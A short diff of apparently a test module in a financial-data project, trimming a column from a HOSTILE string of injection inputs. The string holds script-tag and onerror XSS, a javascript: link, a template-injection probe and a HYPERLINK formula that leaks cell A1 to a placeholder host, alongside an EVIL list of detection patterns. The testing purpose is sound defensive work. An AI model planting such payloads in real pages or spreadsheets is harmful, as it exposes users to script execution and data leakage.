@@ -24,11 +24,11 @@ ARRIVING = ("2017-11-07_1h17_presentation", "2018-05-15_fy17_release")
 TABLES = ("filings", "numbers", "facts", "checks", "series")
 OWN_TESTS = ("data", "notebooks_fresh", "handread", "typed_numbers", "docs", "checks_ids", "errata")
 HOSTILE = """
-<script>alert("x")</script> revenue	1,234	1,111
+<script>alert("x")</script> revenue	1,234
 
-=HYPERLINK("http://x.invalid/?a="&A1,"net sales")	2,345	2,222
+=HYPERLINK("http://x.invalid/?a="&A1,"net sales")	2,345
 
-"><img src=x onerror=alert("x")> {{ 7*7 }} ```{raw} html [x](javascript:alert("x")) $x$	3,456	3,333
+"><img src=x onerror=alert("x")> {{ 7*7 }} ```{raw} html [x](javascript:alert("x")) $x$	3,456
 """
 EVIL = ("<script>alert", "<img src=x", 'href="javascript:')
 
